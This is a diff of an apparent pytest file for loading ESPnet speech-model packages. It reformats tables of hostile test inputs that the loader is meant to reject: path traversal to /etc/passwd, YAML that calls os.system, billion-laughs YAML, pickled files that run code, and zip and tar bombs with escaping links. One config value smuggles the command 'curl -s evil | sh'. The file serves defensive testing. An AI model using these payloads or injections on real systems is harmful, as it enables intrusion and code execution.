@@ -56,86 +56,209 @@ def merges(levels: int) -> str:
 # line says.
 MODELS = {
     "meta: a list": ("meta.yaml", "- a\n", "must hold a mapping"),
-    "meta: files is text": ("meta.yaml", {"files": "model/model.pth"}, "files is no mapping"),
-    "meta: a file is a number": ("meta.yaml", {"files": {"asr_model_file": 3}}, "lacks 3"),
-    "meta: a file is a folder": ("meta.yaml", {"files": {"asr_model_file": "model"}}, "lacks model"),
-    "meta: the folder above": ("meta.yaml", {"files": {"asr_model_file": "../secret"}}, "outside of the model"),
-    "meta: hidden above": ("meta.yaml", {"files": {"asr_model_file": "a/../../secret"}}, "outside of the model"),
-    "meta: absolute": ("meta.yaml", {"files": {"asr_model_file": "/etc/passwd"}}, "outside of the model"),
+    "meta: files is text": (
+        "meta.yaml",
+        {"files": "model/model.pth"},
+        "files is no mapping",
+    ),
+    "meta: a file is a number": (
+        "meta.yaml",
+        {"files": {"asr_model_file": 3}},
+        "lacks 3",
+    ),
+    "meta: a file is a folder": (
+        "meta.yaml",
+        {"files": {"asr_model_file": "model"}},
+        "lacks model",
+    ),
+    "meta: the folder above": (
+        "meta.yaml",
+        {"files": {"asr_model_file": "../secret"}},
+        "outside of the model",
+    ),
+    "meta: hidden above": (
+        "meta.yaml",
+        {"files": {"asr_model_file": "a/../../secret"}},
+        "outside of the model",
+    ),
+    "meta: absolute": (
+        "meta.yaml",
+        {"files": {"asr_model_file": "/etc/passwd"}},
+        "outside of the model",
+    ),
     "meta: no model": ("meta.yaml", {"files": {}}, "names no model"),
     "meta: a date that is none": ("meta.yaml", "day: 2020-13-45\n", "meta.yaml"),
     "meta: holds itself": ("meta.yaml", "a: &a [*a]\n", "meta.yaml.*holds itself"),
     "meta: a billion laughs": ("meta.yaml", laughs(12), "meta.yaml.*anchors"),
     "meta: merged a billion times": ("meta.yaml", merges(12), "names no model|anchors"),
     "meta: nested deeply": ("meta.yaml", "a: " + "[" * 3000 + "]" * 3000, "meta.yaml"),
-    "meta: runs Python": ("meta.yaml", (
-        "a: !!python/object/apply:os.system ['touch "
-        "ran']\n"
-    ), "meta.yaml.*constructor"),
+    "meta: runs Python": (
+        "meta.yaml",
+        ("a: !!python/object/apply:os.system ['touch ran']\n"),
+        "meta.yaml.*constructor",
+    ),
     "meta: twice the same key": ("meta.yaml", "files: {}\nfiles: {}\n", "stands twice"),
-    "ours: search is a list": ("espnet_ext.yaml", {"search": ["beam_size"]}, "mapping of search options"),
+    "ours: search is a list": (
+        "espnet_ext.yaml",
+        {"search": ["beam_size"]},
+        "mapping of search options",
+    ),
     "ours: another task": ("espnet_ext.yaml", {"task": "enh_s2t"}, "needs a task"),
     "ours: the task is a list": ("espnet_ext.yaml", {"task": ["asr"]}, "needs a task"),
-    "ours: enh_s2t_task": ("espnet_ext.yaml", {"search": {"enh_s2t_task": True}}, "no option of a search"),
-    "ours: a file": ("espnet_ext.yaml", {"search": {"lm_file": "/etc/passwd"}}, "no option of a search"),
-    "ours: a download": ("espnet_ext.yaml", {"search": {"model_tag": "a/b"}}, "no option of a search"),
-    "ours: beam_size is text": ("espnet_ext.yaml", {"search": {"beam_size": "ten"}}, "beam_size"),
-    "ours: beam_size 0": ("espnet_ext.yaml", {"search": {"beam_size": 0}}, "beam_size is 0"),
-    "ours: ctc_weight is a list": ("espnet_ext.yaml", {"search": {"ctc_weight": [1]}}, "ctc_weight"),
-    (
-        "config: token_list is a "
-        "number"
-    ): ("model/config.yaml", {"token_list": 5}, "cannot be built"),
-    "config: token_list is null": ("model/config.yaml", {"token_list": None}, "cannot be built"),
-    (
-        "config: token_list of another "
-        "size"
-    ): ("model/config.yaml", {"token_list": ["a", "b"]}, "does not fit its config"),
-    (
-        "config: the encoder is a "
-        "number"
-    ): ("model/config.yaml", {"encoder": 3}, "cannot be built"),
-    (
-        "config: frontend_conf is a "
-        "list"
-    ): ("model/config.yaml", {"frontend_conf": [1]}, "cannot be built"),
-    "config: encoder_conf is null": ("model/config.yaml", {"encoder_conf": None}, "cannot be built"),
-    "config: model_conf is text": ("model/config.yaml", {"model_conf": "x"}, "cannot be built"),
-    "config: a size is text": ("model/config.yaml", {"encoder_conf": {"hidden_size": "eight"}}, "cannot be built"),
-    (
-        "config: an option that is "
-        "none"
-    ): ("model/config.yaml", {"decoder_conf": {"colour": 1}}, "cannot be built"),
-    "config: a size of gigabytes": ("model/config.yaml", {"decoder_conf": {"hidden_size": 10**12}}, "cannot be built"),
-    (
-        "config: a plugin that is "
-        "missing"
-    ): ("model/config.yaml", {"encoder": "evil:best"}, "evil:best .* not installed"),
-    "config: a command as a package": (
-        "model/config.yaml", {"encoder": "x; curl -s evil | sh #:best"}, "encoder: '[^']*' names no package"
+    "ours: enh_s2t_task": (
+        "espnet_ext.yaml",
+        {"search": {"enh_s2t_task": True}},
+        "no option of a search",
     ),
-    "config: token_type is null": ("model/config.yaml", {"token_type": None}, "token_type"),
-    "config: bpemodel is null": ("model/config.yaml", {"token_type": "bpe", "bpemodel": None}, "bpemodel"),
-    "config: a file above": ("model/config.yaml", {"normalize_conf": {"stats_file": "../secret"}}, "outside of the"),
-    (
-        "config: a file of this "
-        "machine"
-    ): ("model/config.yaml", {"bpemodel": "/etc/passwd"}, "/etc/passwd"),
-    "config: a path is a number": ("model/config.yaml", {"normalize_conf": {"stats_file": 3}}, "cannot be built"),
-    "config: a date that is none": ("model/config.yaml", "day: 2020-13-45\n", "config.yaml"),
-    "config: a billion laughs": ("model/config.yaml", laughs(12), "config.yaml.*anchors"),
-    "checkpoint: runs code": ("model/model.pth", lambda path, ran: torch.save({"a": Runs(ran)}, path), "model.pth"),
+    "ours: a file": (
+        "espnet_ext.yaml",
+        {"search": {"lm_file": "/etc/passwd"}},
+        "no option of a search",
+    ),
+    "ours: a download": (
+        "espnet_ext.yaml",
+        {"search": {"model_tag": "a/b"}},
+        "no option of a search",
+    ),
+    "ours: beam_size is text": (
+        "espnet_ext.yaml",
+        {"search": {"beam_size": "ten"}},
+        "beam_size",
+    ),
+    "ours: beam_size 0": (
+        "espnet_ext.yaml",
+        {"search": {"beam_size": 0}},
+        "beam_size is 0",
+    ),
+    "ours: ctc_weight is a list": (
+        "espnet_ext.yaml",
+        {"search": {"ctc_weight": [1]}},
+        "ctc_weight",
+    ),
+    ("config: token_list is a number"): (
+        "model/config.yaml",
+        {"token_list": 5},
+        "cannot be built",
+    ),
+    "config: token_list is null": (
+        "model/config.yaml",
+        {"token_list": None},
+        "cannot be built",
+    ),
+    ("config: token_list of another size"): (
+        "model/config.yaml",
+        {"token_list": ["a", "b"]},
+        "does not fit its config",
+    ),
+    ("config: the encoder is a number"): (
+        "model/config.yaml",
+        {"encoder": 3},
+        "cannot be built",
+    ),
+    ("config: frontend_conf is a list"): (
+        "model/config.yaml",
+        {"frontend_conf": [1]},
+        "cannot be built",
+    ),
+    "config: encoder_conf is null": (
+        "model/config.yaml",
+        {"encoder_conf": None},
+        "cannot be built",
+    ),
+    "config: model_conf is text": (
+        "model/config.yaml",
+        {"model_conf": "x"},
+        "cannot be built",
+    ),
+    "config: a size is text": (
+        "model/config.yaml",
+        {"encoder_conf": {"hidden_size": "eight"}},
+        "cannot be built",
+    ),
+    ("config: an option that is none"): (
+        "model/config.yaml",
+        {"decoder_conf": {"colour": 1}},
+        "cannot be built",
+    ),
+    "config: a size of gigabytes": (
+        "model/config.yaml",
+        {"decoder_conf": {"hidden_size": 10**12}},
+        "cannot be built",
+    ),
+    ("config: a plugin that is missing"): (
+        "model/config.yaml",
+        {"encoder": "evil:best"},
+        "evil:best .* not installed",
+    ),
+    "config: a command as a package": (
+        "model/config.yaml",
+        {"encoder": "x; curl -s evil | sh #:best"},
+        ("encoder: '[^']*' names no package"),
+    ),
+    "config: token_type is null": (
+        "model/config.yaml",
+        {"token_type": None},
+        "token_type",
+    ),
+    "config: bpemodel is null": (
+        "model/config.yaml",
+        {"token_type": "bpe", "bpemodel": None},
+        "bpemodel",
+    ),
+    "config: a file above": (
+        "model/config.yaml",
+        {"normalize_conf": {"stats_file": "../secret"}},
+        "outside of the",
+    ),
+    ("config: a file of this machine"): (
+        "model/config.yaml",
+        {"bpemodel": "/etc/passwd"},
+        "/etc/passwd",
+    ),
+    "config: a path is a number": (
+        "model/config.yaml",
+        {"normalize_conf": {"stats_file": 3}},
+        "cannot be built",
+    ),
+    "config: a date that is none": (
+        "model/config.yaml",
+        "day: 2020-13-45\n",
+        "config.yaml",
+    ),
+    "config: a billion laughs": (
+        "model/config.yaml",
+        laughs(12),
+        "config.yaml.*anchors",
+    ),
+    "checkpoint: runs code": (
+        "model/model.pth",
+        lambda path, ran: torch.save({"a": Runs(ran)}, path),
+        "model.pth",
+    ),
     "checkpoint: text": ("model/model.pth", "hello", "model.pth"),
     "checkpoint: empty": ("model/model.pth", "", "model.pth"),
-    "checkpoint: a list": ("model/model.pth", lambda path, _: torch.save([1], path), "does not hold the parameters"),
-    "checkpoint: other": ("model/model.pth", lambda path, _: torch.save({"a": torch.ones(2)}, path), "does not fit"),
+    "checkpoint: a list": (
+        "model/model.pth",
+        lambda path, _: torch.save([1], path),
+        "does not hold the parameters",
+    ),
+    "checkpoint: other": (
+        "model/model.pth",
+        lambda path, _: torch.save({"a": torch.ones(2)}, path),
+        "does not fit",
+    ),
     "statistics: run code": (
         "model/feats_stats.npz",
-        lambda path, ran: np.savez(path, count=1, sum=np.array([Runs(ran)], dtype=object), sum_square=np.ones(40)),
+        lambda path, ran: np.savez(
+            path,
+            count=1,
+            sum=np.array([Runs(ran)], dtype=object),
+            sum_square=np.ones(40),
+        ),
         "cannot be built",
     ),
     "statistics: text": ("model/feats_stats.npz", "hello", "cannot be built"),
-}  # fmt: skip
+}
 
 
 @pytest.fixture
@@ -249,7 +372,9 @@ ARCHIVES = {
     "backslash.zip": lambda path: zipped(path, ("..\\escaped", b"x"), raw=True),
     "drive.zip": lambda path: zipped(path, ("C:\\escaped", b"x"), raw=True),
     "bomb.zip": lambda path: zipped(path, ("model.pth", bytes(50_000_000))),
-    "bombs.zip": lambda path: zipped(path, *((f"m{n}", bytes(2_000_000)) for n in range(30))),
+    "bombs.zip": lambda path: zipped(
+        path, *((f"m{n}", bytes(2_000_000)) for n in range(30))
+    ),
     "lying.zip": lying_zip,
     "twice.zip": lambda path: zipped(path, ("a", b"x"), ("a", b"y")),
     "file_and_folder.zip": lambda path: zipped(path, ("a", b"x"), ("a/b", b"y")),
@@ -259,25 +384,41 @@ ARCHIVES = {
     "link.zip": zip_link,
     "empty.zip": lambda path: zipped(path),
     "text.zip": lambda path: path.write_text("hello") and path,
-    "half.zip": lambda path: broken(zipped(path, ("a", bytes(range(256)) * 9)), lambda data: data[: len(data) // 2]),
-    "header.zip": lambda path: broken(zipped(path, ("a", b"x")), lambda data: data.replace(b"K\x03\x04", b"K\x03\x05")),
+    "half.zip": lambda path: broken(
+        zipped(path, ("a", bytes(range(256)) * 9)), lambda data: data[: len(data) // 2]
+    ),
+    "header.zip": lambda path: broken(
+        zipped(path, ("a", b"x")), lambda data: data.replace(b"K\x03\x04", b"K\x03\x05")
+    ),
     "up.tgz": lambda path: tarred(path, member("../escaped")),
     "deep.tgz": lambda path: tarred(path, member("a/../../escaped")),
     "root.tar": lambda path: tarred(path, member("/tmp/escaped")),
     "bomb.tgz": lambda path: tarred(path, member("model.pth", size=50_000_000)),
-    "link.tgz": lambda path: tarred(path, member("out", tarfile.SYMTYPE, ".."), member("out/../escaped")),
-    "hard.tgz": lambda path: tarred(path, member("out", tarfile.LNKTYPE, "/etc/passwd")),
-    "members.tar": lambda path: tarred(path, *(member(f"m{n}", size=0) for n in range(20_000))),
-    "folders.tgz": lambda path: tarred(path, *(member(f"m{n}", tarfile.DIRTYPE) for n in range(20_000))),
+    "link.tgz": lambda path: tarred(
+        path, member("out", tarfile.SYMTYPE, ".."), member("out/../escaped")
+    ),
+    "hard.tgz": lambda path: tarred(
+        path, member("out", tarfile.LNKTYPE, "/etc/passwd")
+    ),
+    "members.tar": lambda path: tarred(
+        path, *(member(f"m{n}", size=0) for n in range(20_000))
+    ),
+    "folders.tgz": lambda path: tarred(
+        path, *(member(f"m{n}", tarfile.DIRTYPE) for n in range(20_000))
+    ),
     "device.tar": lambda path: tarred(path, member("out", tarfile.CHRTYPE)),
     "fifo.tar": lambda path: tarred(path, member("meta.yaml", tarfile.FIFOTYPE)),
-    "links_only.tar": lambda path: tarred(path, member("meta.yaml", tarfile.SYMTYPE, "/etc/passwd")),
+    "links_only.tar": lambda path: tarred(
+        path, member("meta.yaml", tarfile.SYMTYPE, "/etc/passwd")
+    ),
     "twice.tar": lambda path: tarred(path, member("a"), member("a")),
-    "half.tgz": lambda path: broken(tarred(path, member("a", size=100_000)), lambda data: data[: len(data) // 2]),
+    "half.tgz": lambda path: broken(
+        tarred(path, member("a", size=100_000)), lambda data: data[: len(data) // 2]
+    ),
     "text.tgz": lambda path: path.write_text("hello") and path,
     "empty.tar": lambda path: tarred(path),
     "nothing.tar.gz": lambda path: path.touch() or path,
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("name", ARCHIVES)
